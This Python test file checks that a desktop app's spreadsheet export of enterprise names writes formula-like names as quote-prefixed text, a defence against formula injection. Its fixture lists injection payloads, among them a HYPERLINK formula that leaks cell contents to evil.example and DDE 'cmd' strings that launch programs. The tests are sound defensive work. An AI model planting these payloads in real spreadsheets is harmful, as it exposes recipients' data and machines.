"""The outreach list's cells are text (issue 13, item 7): an enterprise name that begins with
``=`` was written as a live formula (``=HYPERLINK(…)``, ``=cmd|…``); every cell from data is
now a string cell, shown exactly as written, and quote-prefixed where a spreadsheet program
would read it as a formula."""

from __future__ import annotations

import datetime as dt
import zipfile

import openpyxl
import pytest
from sqlalchemy import text

from kuaixiang_desktop.services.outreach import HEADER_ROWS, export_reach_xlsx
from kuaixiang_desktop.services.reach import reach

AS_OF = dt.date(2026, 6, 1)
ITEM = "lc-liushui-lianfei-2023"  # 免申即享, city-wide: thousands of demo enterprises

HOSTILE = {
    "name": ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+2"],
    "legal_rep": ["=1+1", "@A1", "-5", "+86", "=2*3", "张三", "李四", "=A1"],
}


@pytest.fixture
def hostile(counter_db):
    """The counter database with enterprises that qualify for ITEM renamed to formulas."""
    codes = [e.credit_code for e in reach(counter_db, ITEM, AS_OF, limit=len(HOSTILE["name"])).enterprises]
    assert len(codes) == len(HOSTILE["name"])
    with counter_db.engine.begin() as conn:
        for code, name, rep in zip(codes, HOSTILE["name"], HOSTILE["legal_rep"], strict=True):
            conn.execute(text("UPDATE enterprise SET name = :n, legal_rep = :r WHERE credit_code = :c"),
                         {"n": name, "r": rep, "c": code})
    return counter_db, dict(zip(codes, zip(HOSTILE["name"], HOSTILE["legal_rep"], strict=True), strict=True))


def test_names_that_look_like_formulas_are_text_shown_as_written(hostile, tmp_path):
    db, renamed = hostile
    target = tmp_path / "名单.xlsx"
    export_reach_xlsx(db, ITEM, target, AS_OF)

    book = openpyxl.load_workbook(target)  # not read-only: styles (the quote prefix) are read too
    rows = list(book.active.iter_rows(min_row=HEADER_ROWS + 1))
    by_code = {row[1].value: row for row in rows}
    for code, (name, rep) in renamed.items():
        name_cell, rep_cell = by_code[code][0], by_code[code][5]
        assert name_cell.data_type == "s" and rep_cell.data_type == "s"
        assert rep_cell.value == rep
        assert name_cell.value == name.replace("\r", "\n")  # XML reads a carriage return as a line feed
        for cell in (name_cell, rep_cell):
            if str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell.quotePrefix, cell.coordinate
    # No cell of the whole sheet is a formula.
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)
    with zipfile.ZipFile(target) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


def test_a_name_with_characters_an_xlsx_cannot_hold_is_written_escaped(counter_db, tmp_path):
    # openpyxl refused the whole export over one ESC in one name.
    [first] = reach(counter_db, ITEM, AS_OF, limit=1).enterprises
    with counter_db.engine.begin() as conn:
        conn.execute(text("UPDATE enterprise SET name = :n WHERE credit_code = :c"),
                     {"n": "=恒达\x1b[2J\x00机械", "c": first.credit_code})
    export_reach_xlsx(counter_db, ITEM, tmp_path / "名单.xlsx", AS_OF)
    book = openpyxl.load_workbook(tmp_path / "名单.xlsx")
    [cell] = [row[0] for row in book.active.iter_rows(min_row=HEADER_ROWS + 1) if row[1].value == first.credit_code]
    assert cell.value == "=恒达\\x1b[2J\\x00机械" and cell.data_type == "s" and cell.quotePrefix


def test_ordinary_names_are_written_as_before(counter_db, tmp_path):
    target = tmp_path / "名单.xlsx"
    export_reach_xlsx(counter_db, ITEM, target, AS_OF)
    book = openpyxl.load_workbook(target)
    body = list(book.active.iter_rows(min_row=HEADER_ROWS + 1))
    assert body and all(row[0].data_type == "s" and not row[0].quotePrefix for row in body)
